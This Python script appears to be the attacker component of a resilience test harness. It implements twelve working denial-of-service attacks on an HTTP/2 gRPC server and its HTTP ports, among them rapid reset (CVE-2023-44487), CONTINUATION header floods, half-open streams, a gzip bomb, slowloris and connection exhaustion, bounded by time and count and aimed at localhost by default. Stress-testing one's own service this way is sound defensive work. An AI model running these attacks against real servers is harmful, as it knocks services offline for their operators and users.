#!/usr/bin/env python3
"""One attacker process: `attacks.py NAME --host H --port P --seconds S [...]`.

Each attack is a published HTTP/2 or HTTP/1 denial-of-service pattern against octet-server,
written with raw sockets and HTTP/2 frames (hyperframe + hpack, Debian's python3-h2 family) so
that nothing in a client library smooths it over. Every loop is bounded twice: by --seconds and
by a count. The attacker connects from --source (default 127.0.0.2), so the server sees it as
another client than the well-behaved one on 127.0.0.1. Prints "ready" once its payloads are built
(run.py starts the attack window then), and one JSON line with what it did at the end.
"""

import argparse
import json
import os
import resource
import socket
import struct
import sys
import threading
import time
import zlib

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame, RstStreamFrame,
                              SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CLASSIFY_PATH = "/octet.v1.Inference/Classify"


def classify_message(model="sentiment", text="a fine film"):
    """A serialized octet.v1.ClassifyRequest {model, texts: [text]} in its gRPC frame."""
    def field(number, value):
        data = value.encode()
        return bytes([number << 3 | 2, len(data)]) + data
    body = field(1, model) + field(2, text)
    return b"\x00" + struct.pack(">I", len(body)) + body


class Bounds:
    """The attack's two bounds: a deadline and a count of operations."""

    def __init__(self, seconds, max_ops):
        self.deadline = time.monotonic() + seconds
        self.max_ops = max_ops
        self.ops = 0

    def go(self, n=1):
        self.ops += n
        return self.ops <= self.max_ops and time.monotonic() < self.deadline


class H2Conn:
    """A raw HTTP/2 connection: frames are written as given; whatever the server sends is read
    and dropped by a thread (so its writes never block on us)."""

    def __init__(self, args, preface=True, ack_settings=True):
        self.sock = connect(args)
        self.authority = f"{args.host}:{args.port}"
        self.encoder = Encoder()
        self.closed = False
        self.received = 0
        self.ack_settings = ack_settings
        self.ended = set()  # streams the server ended (trailers) or reset
        self.goaway = False
        self.settings_seen = threading.Event()  # the server's first SETTINGS (acknowledged if so)
        self.reader = threading.Thread(target=self._drain, daemon=True)
        self.reader.start()
        self.next_stream = 1
        if preface:
            settings = SettingsFrame(0)
            settings.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 1 << 30}
            self.send(PREFACE + settings.serialize() +
                      WindowUpdateFrame(0, window_increment=(1 << 30)).serialize())

    def _drain(self):
        """Reads the server's frames: notes ended / reset streams and GOAWAY, and acknowledges
        its SETTINGS unless told not to (a client that never does keeps the server on HTTP/2's
        defaults, e.g. no stream limit)."""
        buf = b""
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    break
                self.received += len(data)
                buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    ftype, flags = buf[3], buf[4]
                    sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    buf = buf[9 + length:]
                    if ftype == 0x4 and not flags & 0x1:
                        if self.ack_settings:
                            self.send(SettingsFrame(0, flags=["ACK"]).serialize())
                        self.settings_seen.set()
                    elif ftype == 0x3 or (ftype in (0x0, 0x1) and flags & 0x1):
                        self.ended.add(sid)
                    elif ftype == 0x7:
                        self.goaway = True
        except OSError:
            pass
        self.closed = True

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def request_headers(self, path=CLASSIFY_PATH, extra=(), scheme="http", te="trailers"):
        headers = [(":method", "POST"), (":scheme", scheme), (":path", path),
                   (":authority", self.authority), ("content-type", "application/grpc"),
                   ("te", te)] + list(extra)
        return self.encoder.encode(headers)

    def new_stream(self):
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def connect(args, timeout=10):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if args.source:
        s.bind((args.source, 0))
    s.settimeout(timeout)
    s.connect((args.host, args.port))
    s.settimeout(None)
    return s


def ready():
    print("ready", flush=True)


# --- the attacks -------------------------------------------------------------------------------

def header_flood(args, rate_bytes_per_s=0, connections=1):
    """HEADERS without END_HEADERS, then endless small CONTINUATION frames of fresh literal
    headers: the server must buffer (or reparse) the whole block (CVE-2023-33953 territory).
    With a rate, the slow-to-parse variant."""
    encoder = Encoder()
    fragment = encoder.encode([("x-pad", "a" * 48)], huffman=False)
    # 64 frames of ~60 bytes per send.
    chunk = b"".join(ContinuationFrame(1, data=fragment).serialize() for _ in range(64))
    bounds = Bounds(args.seconds, max_ops=args.max_bytes // len(chunk))
    ready()
    sent = reconnects = 0
    conns = []

    def open_one():
        c = H2Conn(args)
        c.send(HeadersFrame(1, data=c.request_headers()).serialize())
        return c

    conns = [open_one() for _ in range(connections)]
    start = time.monotonic()
    while bounds.go():
        for i, c in enumerate(conns):
            if c.closed or not c.send(chunk):
                c.close()
                reconnects += 1
                try:
                    conns[i] = open_one()
                except OSError:
                    time.sleep(0.05)
                continue
            sent += len(chunk)
        if rate_bytes_per_s:
            ahead = sent / rate_bytes_per_s - (time.monotonic() - start)
            if ahead > 0:
                time.sleep(ahead)
    for c in conns:
        c.close()
    return {"bytes_sent": sent, "reconnects": reconnects}


def slow_headers(args):
    """Two connections feeding header blocks at about 1 MB/s each."""
    return header_flood(args, rate_bytes_per_s=(1 << 20) * 2, connections=2)


def rapid_reset(args):
    """HEADERS then RST_STREAM(CANCEL) at once, over and over (CVE-2023-44487)."""
    bounds = Bounds(args.seconds, max_ops=args.max_streams)
    ready()
    c = H2Conn(args)
    streams = reconnects = 0
    block = c.request_headers()
    while bounds.go(200):
        out = []
        for _ in range(200):
            sid = c.new_stream()
            out.append(HeadersFrame(sid, data=block, flags=["END_HEADERS"]).serialize())
            out.append(RstStreamFrame(sid, error_code=8).serialize())
        if c.closed or not c.send(b"".join(out)) or c.next_stream > (1 << 30):
            c.close()
            reconnects += 1
            try:
                c = H2Conn(args)
                block = c.request_headers()
            except OSError:
                time.sleep(0.05)
            continue
        streams += 200
    c.close()
    return {"streams": streams, "reconnects": reconnects}


def half_open_streams(args, ack_settings=True):
    """3 connections × 50,000 streams opened with HEADERS and never finished, by a client that
    acknowledges the server's SETTINGS (and so its stream limit)."""
    per_conn = min(50000, args.max_streams // 3)
    conns = [H2Conn(args, ack_settings=ack_settings) for _ in range(3)]
    for c in conns:  # the server's SETTINGS arrived (and, if so told, were acknowledged)
        c.settings_seen.wait(10)
    ready()
    bounds = Bounds(args.seconds, max_ops=per_conn * 3)
    opened = 0
    for c in conns:
        # One header block, repeated: it holds only literals and static-table references, so
        # every copy decodes alone.
        frame_block = c.request_headers()
        batch = []
        for _ in range(per_conn):
            if not bounds.go():
                break
            batch.append(HeadersFrame(c.new_stream(), data=frame_block,
                                      flags=["END_HEADERS"]).serialize())
            if len(batch) == 500:
                c.send(b"".join(batch))
                opened += len(batch)
                batch = []
        if batch:
            c.send(b"".join(batch))
            opened += len(batch)
    # Hold them open for the rest of the window.
    while time.monotonic() < bounds.deadline:
        time.sleep(0.2)
    for c in conns:
        c.close()
    return {"streams_opened": opened}


def half_open_streams_noack(args):
    """The same by a client that never acknowledges the server's SETTINGS: gRPC 1.51 enforces
    its stream limit only once acknowledged, so this needs the front."""
    return half_open_streams(args, ack_settings=False)


def gzip_bomb(args):
    """A request compressed with gzip that inflates to 1 GiB of zeros (under the 1 MiB message
    limit compressed)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = b"\0" * (1 << 20)
    bomb = b"".join([comp.compress(zeros) for _ in range(1024)] + [comp.flush()])
    message = b"\x01" + struct.pack(">I", len(bomb)) + bomb
    ready()
    bounds = Bounds(args.seconds, max_ops=args.max_requests)
    results = []
    while bounds.go():
        c = H2Conn(args)
        sid = c.new_stream()
        t0 = time.monotonic()
        c.send(HeadersFrame(sid, data=c.request_headers(extra=[("grpc-encoding", "gzip")]),
                            flags=["END_HEADERS"]).serialize())
        for off in range(0, len(message), 16384):
            last = off + 16384 >= len(message)
            if not c.send(DataFrame(sid, data=message[off:off + 16384],
                                    flags=["END_STREAM"] if last else []).serialize()):
                break
        # The answer (trailers or a reset) arrives, or the connection closes.
        while not c.closed and sid not in c.ended and time.monotonic() - t0 < 30:
            time.sleep(0.005)
        results.append(round(time.monotonic() - t0, 3))
        c.close()
        time.sleep(0.5)
    return {"bombs": len(results), "answer_seconds": results, "compressed_bytes": len(bomb)}


def idle_connections(args):
    """4,000 TCP connections that say nothing (half send the HTTP/2 preface first), held open."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    ready()
    bounds = Bounds(args.seconds, max_ops=args.max_connections)
    socks, failed = [], 0
    while bounds.go():
        try:
            s = connect(args, timeout=2)
            if len(socks) % 2:
                s.sendall(PREFACE + SettingsFrame(0).serialize())
            socks.append(s)
        except OSError:
            failed += 1
            time.sleep(0.01)
    while time.monotonic() < bounds.deadline:
        time.sleep(0.2)
    # How many the server closed by itself (handshake / idle timeouts).
    closed = 0
    for s in socks:
        s.setblocking(False)
        try:
            if s.recv(1 << 16, socket.MSG_PEEK) == b"":
                closed += 1
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        s.close()
    return {"connections": len(socks), "connect_failures": failed, "closed_by_server": closed}


def inflight_calls(args):
    """2,000 Classify calls in flight on one connection, re-sent as they are answered."""
    c = H2Conn(args)
    message = classify_message()
    ready()
    bounds = Bounds(args.seconds, max_ops=args.max_requests)
    sent = 0
    while bounds.go(2000):
        if c.closed:
            c.close()
            c = H2Conn(args)
        out = []
        for _ in range(2000):
            sid = c.new_stream()
            out.append(HeadersFrame(sid, data=c.request_headers(), flags=["END_HEADERS"])
                       .serialize())
            out.append(DataFrame(sid, data=message, flags=["END_STREAM"]).serialize())
        c.send(b"".join(out))
        sent += 2000
        time.sleep(0.5)
    c.close()
    return {"calls_sent": sent, "bytes_received": c.received}


def metrics_slow(args):
    """2 idle and 10 slow (one byte a second) connections to /metrics."""
    port = args.metrics_port
    ready()
    bounds = Bounds(args.seconds, max_ops=args.max_requests)
    request = b"GET /metrics HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"a" * 4000 + b"\r\n\r\n"
    conns = []

    def open_conn():
        s = socket.socket()
        if args.source:
            s.bind((args.source, 0))
        s.settimeout(5)
        s.connect((args.host, port))
        return [s, 0]

    reopened = 0
    for i in range(12):
        conns.append(open_conn())
    while bounds.go():
        for i, entry in enumerate(conns[2:], start=2):
            s, pos = entry
            try:
                s.send(request[pos:pos + 1])
                entry[1] = (pos + 1) % len(request)
            except OSError:
                s.close()
                try:
                    conns[i] = open_conn()
                    reopened += 1
                except OSError:
                    pass
        time.sleep(1.0)
        # The idle ones: reopened when the server closes them.
        for i in range(2):
            s = conns[i][0]
            s.setblocking(False)
            try:
                if s.recv(1, socket.MSG_PEEK) == b"":
                    raise OSError
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                try:
                    conns[i] = open_conn()
                    reopened += 1
                except OSError:
                    pass
            else:
                s.setblocking(True)
    for s, _ in conns:
        s.close()
    return {"reopened": reopened}


def large_messages(args):
    """8 streams that each announce and send a 64 MiB message, and one whose gRPC frame header
    claims 4 GiB; flow control honoured (they are as fast as the server lets them be)."""
    import h2.config
    import h2.connection
    import h2.events
    ready()
    bounds = Bounds(args.seconds, max_ops=args.max_requests)
    rounds = 0
    rejected = 0
    while bounds.go():
        sock = connect(args)
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        sizes = [64 << 20] * 8 + [0xFFFFFFFF]
        streams = {}
        for size in sizes:
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, [(":method", "POST"), (":scheme", "http"),
                                    (":path", CLASSIFY_PATH),
                                    (":authority", f"{args.host}:{args.port}"),
                                    ("content-type", "application/grpc"), ("te", "trailers")])
            streams[sid] = [b"\x00" + struct.pack(">I", size), size + 5, False]
        sock.sendall(conn.data_to_send())
        sock.settimeout(0.05)
        chunk = b"x" * 16384
        t_end = min(bounds.deadline, time.monotonic() + 10)
        while time.monotonic() < t_end and not all(s[2] for s in streams.values()):
            for sid, st in streams.items():
                if st[2]:
                    continue
                window = min(conn.local_flow_control_window(sid), conn.max_outbound_frame_size)
                while window > 0 and st[1] > 0:
                    data = st[0] if st[0] else chunk[:min(window, st[1])]
                    data = data[:window]
                    st[0] = st[0][len(data):] if st[0] else b""
                    try:
                        conn.send_data(sid, data)
                    except Exception:  # the stream was closed by the server
                        st[2] = True
                        break
                    st[1] -= len(data)
                    window = min(conn.local_flow_control_window(sid),
                                 conn.max_outbound_frame_size)
            try:
                sock.sendall(conn.data_to_send())
                data = sock.recv(1 << 16)
                if not data:
                    break
                for event in conn.receive_data(data):
                    if isinstance(event, (h2.events.StreamReset, h2.events.StreamEnded)):
                        if event.stream_id in streams and not streams[event.stream_id][2]:
                            streams[event.stream_id][2] = True
                            rejected += 1
                    if isinstance(event, h2.events.TrailersReceived):
                        if event.stream_id in streams and not streams[event.stream_id][2]:
                            streams[event.stream_id][2] = True
                            rejected += 1
                sock.sendall(conn.data_to_send())
            except socket.timeout:
                pass
            except Exception:
                break
        sock.close()
        rounds += 1
    return {"rounds": rounds, "streams_answered": rejected}


def malformed(args):
    """Mixed bad input: te: foo, a bad :scheme, 20 KiB and 1,000-header requests, a slowloris of
    1,000 connections sending the preface a byte at a time, 10,000 messages that are not
    protobuf."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    ready()
    bounds = Bounds(args.seconds, max_ops=args.max_requests)
    done = {"bad_headers": 0, "garbage_messages": 0, "slowloris": 0}
    slow = []
    for _ in range(1000):
        if time.monotonic() > bounds.deadline:
            break
        try:
            slow.append(connect(args, timeout=2))
        except OSError:
            break
    done["slowloris"] = len(slow)
    garbage = b"\x00" + struct.pack(">I", 64) + bytes(range(64))
    pos = 0
    while bounds.go():
        c = H2Conn(args)
        variants = [dict(te="foo"), dict(scheme="gopher"),
                    dict(extra=[("x-big", "b" * 20480)]),
                    dict(extra=[(f"x-h{i}", "v") for i in range(1000)])]
        for v in variants:
            sid = c.new_stream()
            c.send(HeadersFrame(sid, data=c.request_headers(**v), flags=["END_HEADERS"])
                   .serialize() + DataFrame(sid, data=classify_message(),
                                            flags=["END_STREAM"]).serialize())
            done["bad_headers"] += 1
        out = []
        for _ in range(1000):
            sid = c.new_stream()
            out.append(HeadersFrame(sid, data=c.request_headers(), flags=["END_HEADERS"])
                       .serialize())
            out.append(DataFrame(sid, data=garbage, flags=["END_STREAM"]).serialize())
        c.send(b"".join(out))
        done["garbage_messages"] += 1000
        for s in slow:
            try:
                s.send(PREFACE[pos % len(PREFACE):pos % len(PREFACE) + 1])
            except OSError:
                pass
        pos += 1
        time.sleep(1.0)
        c.close()
    for s in slow:
        s.close()
    return done


def http_slow(args):
    """Slowloris on the HTTP/JSON port: 200 connections sending their request headers a byte a
    second, and 50 idle keep-alive connections. civetweb gives each connection a thread until it
    closes, so this needs the front (nginx reads headers without a thread per connection)."""
    port = args.http_port
    ready()
    bounds = Bounds(args.seconds, max_ops=args.max_requests)
    head = (b"POST /v1/classify HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            + b"X-Slow: " + b"a" * 2000 + b"\r\n\r\n")

    def open_conn():
        s = socket.socket()
        if args.source:
            s.bind((args.source, 0))
        s.settimeout(5)
        s.connect((args.host, port))
        s.setblocking(False)
        return [s, 0]

    slow, reopened = [], 0
    for _ in range(250):
        try:
            slow.append(open_conn())
        except OSError:
            break
    while bounds.go():
        for i, entry in enumerate(slow):
            s, pos = entry
            try:
                if i < 200:
                    s.send(head[pos:pos + 1])
                    entry[1] = (pos + 1) % len(head)
                elif s.recv(1, socket.MSG_PEEK) == b"":
                    raise OSError("closed")
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                try:
                    slow[i] = open_conn()
                    reopened += 1
                except OSError:
                    pass
        time.sleep(1.0)
    for s, _ in slow:
        s.close()
    return {"connections": len(slow), "reopened": reopened}


ATTACKS = {
    "http_slow": http_slow,
    "header_flood": header_flood,
    "rapid_reset": rapid_reset,
    "half_open_streams": half_open_streams,
    "half_open_streams_noack": half_open_streams_noack,
    "gzip_bomb": gzip_bomb,
    "idle_connections": idle_connections,
    "inflight_calls": inflight_calls,
    "slow_headers": slow_headers,
    "metrics_slow": metrics_slow,
    "large_messages": large_messages,
    "malformed": malformed,
}


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--metrics_port", type=int, default=0)
    p.add_argument("--http_port", type=int, default=0)
    p.add_argument("--source", default="127.0.0.2")
    p.add_argument("--seconds", type=float, default=20)
    p.add_argument("--max_bytes", type=int, default=600 << 20)
    p.add_argument("--max_streams", type=int, default=3_000_000)
    p.add_argument("--max_requests", type=int, default=200_000)
    p.add_argument("--max_connections", type=int, default=4000)
    args = p.parse_args()
    try:
        result = ATTACKS[args.attack](args)
    except OSError as e:
        result = {"error": str(e)}
    print(json.dumps(result), flush=True)
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main()
